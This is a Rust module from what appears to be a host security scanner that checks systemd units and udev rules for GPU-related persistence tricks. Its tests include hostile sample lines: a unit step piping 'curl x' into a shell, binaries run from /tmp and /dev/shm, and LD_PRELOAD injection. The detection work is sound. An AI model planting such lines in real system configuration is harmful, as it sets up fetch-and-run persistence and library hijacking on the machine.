//! udev rules and systemd units (and drop-ins) that mention the GPU or set a
//! loader variable: what they run (`RUN+=`, `PROGRAM=`, `ExecStart*=`) and
//! the environment they give it (`ENV{LD_PRELOAD}=`, `Environment=`).

use std::path::Path;

use super::envfiles::loader_assignments;
use super::rules::GpuRules;
use super::{clip, Hit};

/// True when a unit or rule belongs to the inventory: it mentions nvidia or
/// cuda, or names a loader variable.
pub fn mentions_gpu(rules: &GpuRules, text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    lower.contains("nvidia")
        || lower.contains("cuda")
        || rules
            .paths
            .loader_variables
            .iter()
            .any(|v| text.contains(v.as_str()))
}

const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "busybox"];

fn check_command(rules: &GpuRules, line: usize, command: &str, hits: &mut Vec<Hit>) {
    let mut words = command.split_whitespace().peekable();
    let Some(mut first) = words.next() else {
        return;
    };
    // `env NAME=value prog`: the assignments are the environment.
    let base = |w: &str| {
        Path::new(w)
            .file_name()
            .map(|b| b.to_string_lossy().into_owned())
            .unwrap_or_default()
    };
    if base(first) == "env" {
        while let Some(w) = words.peek() {
            if !w.contains('=') {
                break;
            }
            let w = words.next().unwrap_or_default();
            let name = w.split('=').next().unwrap_or("");
            if rules.is_loader_variable(name) {
                hits.push(Hit::at(
                    "unit-ld-preload",
                    line,
                    format!("runs with {}", clip(name)),
                ));
            }
        }
        match words.next() {
            Some(w) => first = w,
            None => return,
        }
    }
    let prog = Path::new(first);
    if rules.is_temp(prog) {
        hits.push(Hit::at(
            "unit-exec-temp",
            line,
            format!("runs {}", clip(first)),
        ));
    } else if prog.is_absolute() && !rules.is_system_bin(prog) {
        hits.push(Hit::at(
            "unit-exec-nonsystem",
            line,
            format!("runs {}", clip(first)),
        ));
    }
    let b = base(first);
    if SHELLS.contains(&b.as_str()) && command.split_whitespace().any(|w| w == "-c") {
        hits.push(Hit::at("unit-exec-shell", line, format!("runs {b} -c")));
    }
}

fn env_hits(rules: &GpuRules, line: usize, text: &str, hits: &mut Vec<Hit>) {
    for (name, reason) in loader_assignments(rules, text) {
        if let Some(r) = reason {
            let _ = name;
            hits.push(Hit::at("unit-ld-preload", line, r));
        }
    }
}

/// Checks a systemd unit or drop-in.
pub fn check_unit(rules: &GpuRules, text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (line, raw) in super::modprobe::logical_lines(text) {
        let l = raw.trim();
        if l.starts_with('#') || l.starts_with(';') {
            continue;
        }
        let Some((key, value)) = l.split_once('=') else {
            continue;
        };
        let key = key.trim();
        let value = value.trim();
        match key {
            "Environment" => env_hits(rules, line, value, &mut hits),
            "EnvironmentFile" => {
                let p = value.trim_start_matches('-');
                if rules.is_temp(Path::new(p)) {
                    hits.push(Hit::at(
                        "unit-exec-temp",
                        line,
                        format!("reads environment from {}", clip(p)),
                    ));
                }
            }
            k if k.starts_with("Exec") => {
                let cmd = value.trim_start_matches(['-', '@', ':', '+', '!', '|']);
                check_command(rules, line, cmd, &mut hits);
            }
            _ => {}
        }
    }
    hits
}

/// Checks a udev rules file.
pub fn check_udev(rules: &GpuRules, text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (line, raw) in super::modprobe::logical_lines(text) {
        let l = raw.trim();
        if l.starts_with('#') {
            continue;
        }
        for part in split_udev(l) {
            let Some((key, value)) = part.split_once('=') else {
                continue;
            };
            let key = key.trim_end_matches(['+', ':', '!']).trim();
            let value = value.trim().trim_matches('"');
            if key == "RUN" || key == "RUN{program}" || key == "PROGRAM" || key == "IMPORT{program}"
            {
                check_command(rules, line, value, &mut hits);
            } else if let Some(var) = key.strip_prefix("ENV{").and_then(|k| k.strip_suffix('}')) {
                env_hits(rules, line, &format!("{var}={value}"), &mut hits);
            }
        }
    }
    hits
}

/// Splits a udev rule on the commas between its key/value pairs (commas
/// inside quotes stay).
fn split_udev(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    for c in line.chars() {
        match c {
            '"' => {
                quoted = !quoted;
                cur.push(c);
            }
            ',' if !quoted => out.push(std::mem::take(&mut cur).trim().to_string()),
            _ => cur.push(c),
        }
    }
    if !cur.trim().is_empty() {
        out.push(cur.trim().to_string());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gpu::rules::builtin;

    #[test]
    fn persistenced_is_clean_and_attacks_are_not() {
        let unit = "[Service]\nType=forking\nExecStart=/usr/bin/nvidia-persistenced --user nvidia-persistenced --no-persistence-mode --verbose\nExecStopPost=/bin/rm -rf /var/run/nvidia-persistenced\n";
        assert!(check_unit(builtin(), unit).is_empty());
        let bad = "[Service]\nEnvironment=\"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libnvidia-gl.so\"\nExecStartPre=/bin/sh -c 'curl x | sh'\nExecStart=/tmp/ultralytics_runner\n";
        let ids: Vec<_> = check_unit(builtin(), bad)
            .into_iter()
            .map(|h| h.rule_id)
            .collect();
        assert_eq!(
            ids,
            ["unit-ld-preload", "unit-exec-shell", "unit-exec-temp"]
        );
    }

    #[test]
    fn udev_rules() {
        let ok = "ACTION==\"add\", DEVPATH==\"/bus/pci/drivers/nvidia\", RUN+=\"/sbin/modprobe nvidia-modeset\"\nKERNEL==\"nvidia\", RUN{builtin}+=\"kmod load nvidia-uvm\"\n";
        assert!(check_udev(builtin(), ok).is_empty());
        let bad = "KERNEL==\"nvidia\", RUN+=\"/dev/shm/.n/run\", ENV{LD_PRELOAD}=\"/x.so\"\n";
        let ids: Vec<_> = check_udev(builtin(), bad)
            .into_iter()
            .map(|h| h.rule_id)
            .collect();
        assert_eq!(ids, ["unit-exec-temp", "unit-ld-preload"]);
    }
}
